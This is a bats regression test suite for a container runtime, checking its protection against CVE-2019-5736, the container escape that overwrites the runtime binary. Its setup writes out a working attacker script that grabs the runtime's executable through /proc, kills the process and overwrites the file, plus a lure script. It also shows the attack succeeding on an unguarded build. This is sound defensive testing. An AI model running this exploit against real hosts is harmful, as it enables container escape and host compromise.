#!/usr/bin/env bats
# CVE-2019-5736 and its kind: a container makes the runtime execute its own file inside (a command, or a "#!" line, that is
# /proc/self/exe), takes hold of that file through /proc/PID/exe, waits until nobody executes it, and writes to it as root.
# The victim is a copy of the runtime, of a build that can do without the protection: first the attack has to work.
load helpers

setup() {
    setup_container
    [ -x "${PINFOLD_FAULTS-}" ] || skip "no build with fault points (make pinfold-faults)"
    RUNTIME=$WORK/runtime
    cp "$PINFOLD_FAULTS" "$RUNTIME"
    mkfifo "$ROOT/fifo"
    # The attacker is process 1: whatever is not of the root file system is the runtime.
    cat >"$ROOT/attack" <<'EOF'
#!/bin/sh
while :; do
    for p in /proc/[0-9]*; do
        case $(readlink $p/exe) in
        /bin/* | /sbin/* | /usr/* | "") continue ;; # busybox, hard links of it
        esac
        exec 9<$p/exe || continue
        echo opened >/result
        kill -9 ${p#/proc/}
        n=0
        while [ $n -lt 100 ]; do
            if (echo stolen >/proc/self/fd/9) 2>/complaint; then
                echo written >/result
                sleep 1000
            fi
            n=$((n + 1))
            sleep 0.1
        done
        echo "refused: $(cat /complaint)" >/result
        sleep 1000
    done
done
EOF
    printf '#!/proc/self/exe --log=/fifo\n' >"$ROOT/lure"
    chmod 755 "$ROOT/attack" "$ROOT/lure"
    command_is /attack
}
teardown() { teardown_container; }

# The administrator executes COMMAND in the attacker's container; it blocks at the fifo until it is killed.
attacked_by() { # COMMAND...
    timeout 20 "$RUNTIME" --root "$STATE" --policy unconfined create --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1 3>&-
    timeout 20 "$RUNTIME" --root "$STATE" --policy unconfined start "$ID" 3>&-
    timeout 20 "$RUNTIME" --root "$STATE" --policy unconfined exec "$ID" "$@" </dev/null >/dev/null 2>&1 3>&- || :
    local try
    for try in $(seq 150); do
        case $(cat "$ROOT/result" 2>/dev/null) in
        written | refused*) return 0 ;;
        esac
        sleep 0.1
    done
    echo "the attack came to no end: $(cat "$ROOT/result" 2>/dev/null)" >&2
    return 1
}
safe() {
    contains "$(cat "$ROOT/result")" "refused: "
    contains "$(cat "$ROOT/result")" "Read-only file system"
    cmp "$RUNTIME" "$PINFOLD_FAULTS"
}

@test "CVE-2019-5736: without the protection, exec of /proc/self/exe gives the runtime's file away" {
    export PINFOLD_UNGUARDED=1
    attacked_by /proc/self/exe --log=/fifo
    is "$(cat "$ROOT/result")" written
    is "$(cat "$RUNTIME")" stolen
    cp --remove-destination "$PINFOLD_FAULTS" "$RUNTIME"
}

@test "CVE-2019-5736: exec of /proc/self/exe" {
    attacked_by /proc/self/exe --log=/fifo
    safe
}

@test "CVE-2019-5736: exec of a script whose interpreter is /proc/self/exe" {
    attacked_by /lure
    safe
}

@test "CVE-2019-5736: exec of a symbolic link to it" {
    ln -s /proc/self/exe "$ROOT/bin/tool"
    attacked_by tool --log=/fifo
    safe
}

@test "CVE-2019-5736: the container's own command is /proc/self/exe: a file on a read-only mount" {
    command_is /proc/self/exe --log=/fifo
    timeout 20 "$RUNTIME" --root "$STATE" --policy unconfined create --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1 3>&-
    timeout 20 "$RUNTIME" --root "$STATE" --policy unconfined start "$ID" 3>&-
    pid=$(state_of .pid)
    is "$(tr '\0' ' ' <"/proc/$pid/cmdline")" "/proc/self/exe --log=/fifo "
    # bit 0 of f_flags: ST_RDONLY
    is "$(python3 -c 'import os, sys; print(os.statvfs(sys.argv[1]).f_flag & 1)' "/proc/$pid/exe")" 1
}

@test "CVE-2019-5736: a created container is already at its read-only clone, and so is its memory" {
    command_is true
    timeout 20 "$RUNTIME" --root "$STATE" --policy unconfined create --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1 3>&-
    pid=$(state_of .pid)
    is "$(python3 -c 'import os, sys; print(os.statvfs(sys.argv[1]).f_flag & 1)' "/proc/$pid/exe")" 1
    lacks "$(cat "/proc/$pid/maps")" "$RUNTIME"
    # nothing is writable and executable, and what the loader made read-only still is
    is "$(awk '$2 ~ /w.*x/' "/proc/$pid/maps")" ""
    contains "$(tr '\0' ' ' <"/proc/$pid/cmdline")" "create --bundle"
}

# Runs a command under a filter that answers prctl(PR_SET_MM) with EINVAL, as a kernel without CONFIG_CHECKPOINT_RESTORE.
without_set_mm() {
    python3 -c '
import ctypes, os, struct, sys
# load nr; is it prctl? load argument 0; is it PR_SET_MM (35)? EINVAL : allow
code = [(0x20, 0, 0, 0), (0x15, 0, 3, 157), (0x20, 0, 0, 16), (0x15, 0, 1, 35), (0x06, 0, 0, 0x00050016), (0x06, 0, 0, 0x7fff0000)]
program = b"".join(struct.pack("HBBI", *line) for line in code)
buffer = ctypes.create_string_buffer(program)
libc = ctypes.CDLL(None, use_errno=True)
fprog = struct.pack("HxxxxxxQ", len(code), ctypes.addressof(buffer))
assert libc.prctl(22, 2, ctypes.c_char_p(fprog), 0, 0) == 0 or sys.exit("no filter")
os.execv(sys.argv[1], sys.argv[1:])' "$@"
}

@test "a kernel without PR_SET_MM_MAP: the runtime executes a read-only clone of itself, and all works" {
    [ "$(uname -m)" = x86_64 ] || skip "the filter is for x86_64"
    attacker=$(jq -c .process.args "$BUNDLE/config.json")
    command_is readlink /proc/1/exe
    run without_set_mm "$RUNTIME" --root "$STATE" --policy unconfined run --bundle "$BUNDLE" "$ID"
    ended 0 /bin/
    configure --argjson words "$attacker" '.process.args = $words'
    pf_create
    pf start "$ID"
    without_set_mm "$(command -v timeout)" 20 "$RUNTIME" --root "$STATE" --policy unconfined exec "$ID" /proc/self/exe --log=/fifo </dev/null >/dev/null 2>&1 3>&- || :
    wait_for grep -q refused "$ROOT/result" || { sleep 10; cat "$ROOT/result"; }
    safe
}
